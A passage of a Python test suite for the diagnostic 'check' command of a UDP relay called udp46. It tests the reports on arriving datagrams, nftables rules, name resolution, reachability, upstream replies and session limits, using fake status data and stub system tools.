        port, = self.begin(self.upstream())
        step = self.check(None)['arriving']
        self.assertEqual(step['result'], 'unknown')
        self.assertIn('no datagram has arrived yet', step['fact'])
        self.assertIn(f'UDP port {port}', step['remedy'])
        self.assertIn(f'\nNot known: arriving. {step["remedy"]}\n', self.out('check'))

    def test_arriving_after_a_while(self):
        self.fake_status(received=0, datagrams=0)
        step = self.check('arriving')['arriving']
        self.assertEqual(step['fact'], 'no datagram has arrived since the relay started, 1h ago')
        self.assertIn('UDP port 51820', step['remedy'])

    def test_arriving_since_a_restart(self):
        """Clients that are quiet are not kept away."""
        for quiet in True, False:
            self.fake_status(received=0, datagrams=0, sessions=3)
            text = json.loads(self.out('--json=short'))
            if not quiet:
                text['names'].append({'name': 'office', 'upstream': '[::1]:2', 'upstream_address': '[::1]:2', 'sessions': 0})
                text['listeners'].append({**text['listeners'][0], 'listener': '192.0.2.1:443', 'name': 'office'})
                os.unlink(self.socket)
                self.serve(http(json.dumps(text)))
            step = self.check(None if quiet else 'arriving')['arriving']
            if quiet:
                self.assertEqual((step['result'], step['remedy']), ('unknown', None))
                self.assertEqual(step['fact'], '3 sessions were taken over, and nothing has come since the restart, 1h ago')
            else:
                self.assertIn('UDP port 443', step['remedy'])

    def test_one_listener_of_two(self):
        home = self.upstream(answer=lambda data: data)
        port, other = self.begin(None, n=2, config=f'[Relay]\nUpstream={home.name}\n[Relay office]\nUpstream=[::1]:9\n')
        self.clients(port, 3)
        steps = self.check(None)
        self.assertEqual(steps['arriving']['result'], 'unknown')
        self.assertRegex(steps['arriving']['fact'], rf'^none has arrived at 127.0.0.1:{other} \(office\) since .* ago; 3 elsewhere$')
        self.assertIn(f'UDP port {other}', steps['arriving']['remedy'])
        self.assertEqual(steps['replies']['result'], 'unknown')
        self.assertIn('nothing was sent to [::1]:9 yet', steps['replies']['fact'])

    def test_blocked_by_the_packet_filter(self):
        if not shutil.which('nft'):
            skip('nft is not installed')
        port, = self.begin(self.upstream())
        done = subprocess.run(['nft', '-f', '-'], input=f'''table inet udp46test {{
            chain in {{
            type filter hook input priority 0
            udp dport {port} counter drop
            }}
            }}
            ''', text=True, capture_output=True, check=False)
        if done.returncode != 0:
            skip(f'no nftables here: {done.stderr.strip()}')
        self.addCleanup(subprocess.run, ['nft', 'delete', 'table', 'inet', 'udp46test'], check=True)
        with contextlib.suppress(OSError):
            self.client(port).send(b'ask')
        step = self.check(None)['arriving']
        self.assertIn('nftables rules (`nft list ruleset`) throw some packets away, in the chain in of the table inet '
                      f'udp46test: see whether they accept `udp dport {port}`', step['remedy'])

    def test_rules(self):
        """Chains of all kinds, as nft writes them"""
        port, = self.begin(self.upstream())

        def remedy(*chains, family='inet'):
            text = f'table {family} t {{\n' + ''.join(f'\t{name} {{\n' + ''.join(f'\t\t{line}\n' for line in lines) + '\t}\n\n'
                                                    for name, *lines in chains) + '}\n'
            self.script('nft', f"cat <<'END'\n{text}END\n")
            return json.loads(self.ctl('check', '--json=short')[0])['steps'][STEPS.index('arriving')]['remedy']
        hook = 'type filter hook {} priority filter; policy {};'.format
        accept = f'udp dport {port} accept'
        drops = ['chain f', 'ct state invalid drop']
        for family, *chains in (('inet', ['chain in', hook('input', 'drop'), accept]),
                                ('ip', ['chain raw', hook('prerouting', 'accept'), 'ip saddr 192.0.2.0/24 counter drop']),
                                ('netdev', ['chain first', 'type filter hook ingress device "eth0" priority 0; policy accept;',
                                            'udp length 1-8 drop comment "odd"']),
                                ('inet', ['chain in', hook('input', 'accept'), 'reject with icmpx port-unreachable']),
                                ('inet', drops, ['chain in', hook('input', 'accept'), 'jump f']),
                                ('inet', ['chain in', hook('input', 'accept'), 'udp dport vmap @v'],
                                 ['map v', 'type inet_service : verdict', 'elements = { 53 : drop }'])):
            with self.subTest(chains=chains):
                text = remedy(*chains, family=family)
                chain = next(lines[0] for lines in chains if 'hook' in lines[1])
                self.assertIn(f'in the {chain} of the table {family} t: see whether they accept `udp dport {port}`', text)
        for family, *chains in (('ip6', ['chain in', hook('input', 'drop')]), ('inet', ['chain out', hook('output', 'drop')]),
                                ('inet', drops, ['chain in', hook('input', 'accept'), 'accept']),
                                ('inet', drops, ['chain out', hook('output', 'accept'), 'jump f']),
                                ('inet', ['chain drop-log', 'accept'], ['chain in', hook('input', 'accept'),
                                                                        'ip saddr @drop_list accept comment "no drop"'])):
            with self.subTest(chains=chains):
                self.assertIn('No nftables rule on this host\'s way in drops', remedy(*chains, family=family))

    def test_arriving_without_nftables(self):
        port, = self.begin(self.upstream())
        self.script('nft', 'echo "Operation not permitted"; exit 1\n')
        self.assertIn('as root', self.check(None)['arriving']['remedy'])
        self.script('nft', 'exit 127\n')
        self.script('iptables', 'exit 0\n')
        self.assertIn(f'iptables -I INPUT -p udp --dport {port} -j ACCEPT', self.check(None)['arriving']['remedy'])

    def test_arriving_where_clients_are_selected(self):
        self.systemd()
        home = self.upstream()
        port, = self.begin(home, config=f'[Relay]\nUpstream={home.name}\n')
        self.assertIn('IPAddressAllow=', self.check(None, DENY='any')['arriving']['remedy'])
        self.clients(port, 1)
        self.assertIn('selects clients', self.check(None, DENY='any')['allowed']['fact'])

    def test_allowed(self):
        port, = self.begin(self.upstream())
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        self.addCleanup(raw.close)
        raw.sendto(struct.pack('!HHHH', 0, port, 11, 0) + b'ask', ('127.0.0.1', 0))  # from port 0
        world.wait_until(lambda: json.loads(self.out('--json=short'))['listeners'][0]['client_to_upstream']['received'])
        self.assertIn('all that came, 1 datagram, had a source', self.check('allowed')['allowed']['fact'])

    def test_nobody_is_allowed(self):
        port, = self.begin(self.upstream(), config='[Relay]\nAllowFrom=192.0.2.0/24\n')
        for _ in range(6):
            self.client(port).send(b'ask')
        world.wait_until(lambda: json.loads(self.out('--json=short'))['listeners'][0]['client_to_upstream']['received'] == 6)
        self.assertIn('of 6 that came so far, AllowFrom=/DenyFrom= kept out 6', self.out('status'))
        step = self.check('allowed')['allowed']
        self.assertEqual(step['fact'], '6 of 6 datagrams kept out by AllowFrom=/DenyFrom=, and nobody let in')
        self.assertIn('Let the clients in with AllowFrom=/DenyFrom= in udp46.conf', step['remedy'])

    def test_some_are_not_allowed(self):
        self.fake_status(received=9, datagrams=1, drops={'bad_source': 2, 'not_allowed': 6})
        self.assertEqual(self.check(None)['allowed']['fact'],
                         '2 of 9 datagrams refused for the source, 6 kept out by AllowFrom=/DenyFrom=')
        self.fake_status(received=9, datagrams=0, age=None, drops={'bad_source': 3, 'not_allowed': 6})
        self.assertEqual(self.check('allowed')['allowed']['fact'],
                         '6 of 9 datagrams kept out by AllowFrom=/DenyFrom=, and nobody let in')
        # Sessions were taken over: somebody may come.
        self.fake_status(received=6, datagrams=0, age=None, drops={'not_allowed': 6}, sessions=3)
        self.check(None)

    def test_resolved(self):
        port, = self.begin('nowhere.example:51820')
        steps = self.check('resolved')
        self.assertEqual(steps['arriving']['result'], 'unknown')
        self.assertIn('nowhere.example:51820 has no address: ', steps['resolved']['fact'])
        self.assertIn('`getent ahostsv6 nowhere.example`', steps['resolved']['remedy'])
        self.assertEqual(steps['reachable']['result'], 'unknown')

    def test_resolved_by_reason(self):
        for error, text in (('the name service does not answer', '/etc/resolv.conf'), (None, 'port 53'),
                            ('the name service reports a failure', '/etc/resolv.conf'),
                            ('no IPv6 address (AAAA) is known for this name', 'Give the name an IPv6 address (AAAA)'),
                            ('[::1]:9: it is the host itself', '(AAAA)'),
                            ('no network interface has the name behind the %', '`ip link`')):
            with self.subTest(error):
                self.fake_status(address=None, error=error)
                self.assertIn(text, self.check('resolved')['resolved']['remedy'])

    def test_an_upstream_that_leads_back(self):
        self.script('ip', 'exit 0\n')
        port, = self.begin('[64:ff9b::127.0.0.1]')
        self.client(port).send(b'ask')
        world.wait_until(lambda: '(loop 1)' in self.out('status', status=3))
        steps = self.check('resolved')
        self.assertRegex(steps['resolved']['fact'], r'^\[64:ff9b::\S+ cannot be used: \S+: it leads back to this relay itself$')
        self.assertIn('Upstream= must be the address of the service itself', steps['resolved']['remedy'])
        self.assertIn('`journalctl -x -u udp46.service`', steps['resolved']['remedy'])
        self.assertEqual(steps['replies']['fact'], 'the address is not known')

    def test_an_upstream_that_was_found_to_lead_back(self):
        """What else was dropped came of it."""
        self.fake_status(address=None, error='[2001:db8::1]:9: it leads back to this relay itself', age=None, datagrams=257,
                         drops={'loop': 2, 'client_limit': 7},
                         recent={'client_to_upstream': {'drops': {'loop': 2, 'client_limit': 7}}})
        steps = self.check('resolved')
        self.assertEqual((steps['replies']['result'], steps['replies']['fact']), ('unknown', 'the address is not known'))
        self.assertEqual(steps['limits']['fact'], '9 datagrams dropped in the last 59s: client_limit 7, loop 2')
        self.assertEqual(steps['limits']['remedy'], steps['resolved']['remedy'])

    def test_reachable(self):
        port, = self.begin(f'[{NOWHERE}]:51820')
        self.client(port).send(b'ask')
        steps = self.check('reachable')
        self.assertIn('no route', steps['reachable']['fact'])
        self.script('ip', 'exit 127\n')
        step = self.check('reachable')['reachable']
        self.assertRegex(step['fact'], r'^1 datagram to \S+ could not be sent \(no_route 1\), 1 in the last \d+\w+$')
        self.assertIn(f'`ip -6 route get {NOWHERE}`', step['remedy'])

    def test_what_is_not_reached_any_more(self):
        """The last minute counts, whenever the question is asked."""
        self.script('ip', 'exit 0\n')
        self.fake_status(icmp=5, recent={'icmp_errors': 3})
        self.assertEqual(self.check('reachable')['reachable']['fact'],
                         '[::1]:1 is answered for with ICMP errors: 5 since the start, 3 in the last 59s')
        self.fake_status(icmp=5)
        self.assertEqual(self.check(None)['reachable']['fact'],
                         '50 datagrams sent to [::1]:1, and no error came back in the last 59s')
        self.fake_status(drops={'denied': 9, 'unreachable': 2}, recent={'client_to_upstream': {'drops': {'denied': 1}}})
        self.assertEqual(self.check('reachable')['reachable']['fact'],
                         '11 datagrams to [::1]:1 could not be sent (unreachable 2, denied 9), 1 in the last 59s')
        self.fake_status(drops={'denied': 9})
        self.check(None)

    def test_nobody_at_the_upstreams_port(self):
        home = self.upstream()
        home.close()
        port, = self.begin(home)
        client = self.client(port)
        for _ in range(3):
            client.send(b'ask')
            time.sleep(0.05)
        self.assertIn('ICMP errors', self.check('reachable')['reachable']['fact'])

    def test_replies(self):
        self.home = self.upstream(answer=lambda data: None)
        port, = self.begin(self.home)
        self.client(port).send(b'ask')
        world.wait_until(self.dump)
        steps = self.check('replies')
        self.assertIn('1 datagram sent to', steps['replies']['fact'])
        self.assertIn('none was ever answered', steps['replies']['fact'])
        self.assertIn('wg show', steps['replies']['remedy'])
        self.assertIn(f'must let in UDP from the upstream\'s port {self.home.port}', steps['replies']['remedy'])

    def fake_status(self, received=100, datagrams=50, address='[::1]:1', error=None, age=1.0, asked=None, icmp=0, drops=None,
                    recent=None, sessions=0, workers=1, **more):
        """A relay that has run for an hour"""
        with contextlib.suppress(FileNotFoundError):
            os.unlink(self.socket)
        name = {'name': 'relay', 'upstream': address or 'home.example:1', 'upstream_address': address, 'resolve_error': error,
                'reply_age_seconds': age, 'asked_age_seconds': asked, 'sessions': sessions}
        listener = {'listener': '192.0.2.1:51820', 'name': 'relay', 'icmp_errors': icmp, 'workers': workers,
                    'client_to_upstream': {'received': received, 'datagrams': datagrams, 'drops': drops or {}}}
        return self.serve(http(json.dumps({'uptime_seconds': 3600, 'recent': {'seconds': 59.1, **(recent or {})},
                                           'sessions': sessions, **more,
                                           'names': [name], 'listeners': [listener]})))

    def test_replies_that_ended(self):
        """Whether or not anybody sends something just now"""
        self.fake_status(age=281.2, asked=22)
        step = self.check('replies')['replies']
        self.assertEqual(step['fact'],
                         'the last reply from [::1]:1 came 4min 41s ago, and clients have sent since, the last time 22s ago')

    def test_silence_that_is_nobodys_fault(self):
        self.fake_status(age=100)
        self.check(None)
        self.fake_status(age=9000)
        self.check(None)
        self.fake_status(age=9000, asked=9001)
        self.check(None)

    def test_drops_of_the_last_minute(self):
        self.fake_status(recent={'client_to_upstream': {'drops': {'write_timeout': 5, 'bad_source': 9, 'oversize': 0}},
                                 'upstream_to_client': {'drops': {'write_timeout': 1, 'denied': 2}}})
        step = self.check('limits')['limits']
        self.assertEqual(step['fact'], '8 datagrams dropped in the last 59s: write_timeout 6, denied 2')
        self.assertIn('WriteTimeoutSec=', step['remedy'])
        self.fake_status(drops={'oversize': 7})
        self.assertIn('nothing dropped in the last 59s', self.check(None)['limits']['fact'])

    def test_real_drops(self):
        """They are told some time after they happened."""
        home = self.upstream(answer=lambda data: data)
        port, = self.begin(home, '--read-buffer-size', '50')
        client = self.client(port)
        client.send(b'x' * 51)
        self.ask(client)
        time.sleep(4)
        self.assertRegex(self.check('limits')['limits']['fact'], r'^1 datagram dropped in the last \d+s: oversize 1$')

    def test_kernel_drops(self):
        self.fake_status(recent={'kernel_drops': 7})
        self.assertEqual(self.check('limits')['limits']['fact'], '7 datagrams found the receive buffer full in the last 59s')

    def test_limits(self):
        home = self.upstream(answer=lambda data: data)
        port, = self.begin(home, '--max-sessions', '2')
        self.clients(port, 1)
        self.check(None)
        self.clients(port, 1)
        self.client(port).send(b'ask')
        world.wait_until(lambda: json.loads(self.out('--json=short'))['listeners'][0]['client_to_upstream']['received'] == 3)
        step = self.check('limits')['limits']
        self.assertEqual(step['fact'], '2 of 2 sessions taken; 1 datagram refused')
        self.assertIn('MaxSessions= in the section [Relay] of udp46.conf', step['remedy'])
        self.assertIn(self.FORGED, step['remedy'])

    def test_more_than_there_may_be(self):
        """MaxSessions= was lowered: who was refused for want of room was, by whichever limit."""
        self.fake_status(sessions=98, limit=40, drops={'unreplied_full': 1})
        self.assertEqual(self.check('limits')['limits']['fact'], '98 sessions open where 40 may be; 1 datagram refused')

    FORGED = ('If `udp46ctl sessions` shows many `unreplied` ones of different addresses, these are strangers or forged clients, '
              'against whom a larger limit does not help: see "Under attack" in operations.md.')

    def test_limits_that_strangers_reach(self):
        for verdict, key in ('table_full', 'MaxSessions='), ('new_session_limit', 'NewSessionLimitBurst='), \
                ('unreplied_full', 'MaxUnrepliedSessions='):
            with self.subTest(verdict):
                self.fake_status(recent={'client_to_upstream': {'drops': {verdict: 5}}})
                remedy = self.check('limits')['limits']['remedy']
                self.assertIn(self.FORGED, remedy)
                self.assertIn(f'raise {key} in udp46.conf', remedy)

    def test_a_limit_that_was_lowered(self):
        """MaxSessions= would not help."""
        why = 'each session takes a file descriptor, see LimitNOFILE='
        self.fake_status(sessions=7, limit=7, limit_lowered=why)
        step = self.check('limits')['limits']
        self.assertIn(f'fewer sessions than configured: {why}.', step['remedy'])
        self.assertNotIn('MaxSessions=', step['remedy'])
        home = self.upstream(answer=lambda data: data)
        os.unlink(self.socket)
        self.begin(home, '--max-sessions', '1000000')
        self.assertIn('see ', json.loads(self.out('--json=short'))['limit_lowered'])

    def test_limits_of_a_name(self):
        home = self.upstream(answer=lambda data: data)
        port, other = self.begin(home, n=2, config='[Relay office]\nMaxSessions=1\n')
        self.clients(port, 1)
        self.clients(other, 1)
        for _ in range(3):
            self.client(other).send(b'ask')
        world.wait_until(lambda: json.loads(self.out('--json=short'))['listeners'][1]['client_to_upstream']['received'] == 4)
        step = self.check('limits')['limits']
        self.assertEqual(step['fact'], '1 of 1 session of the listeners named office taken; 3 datagrams refused')
        self.assertIn('[Relay office]', step['remedy'])

    def test_on_a_terminal(self):
        self.relay_that_works()
        screen = self.screen('check', PAGER='false')
        self.assertEqual(screen.wait(), 0)
        self.assertIn('\033[0;1;32mok', screen.read())


def main():
    world.enter(__file__)
    world.run()


if __name__ == '__main__':
    main()
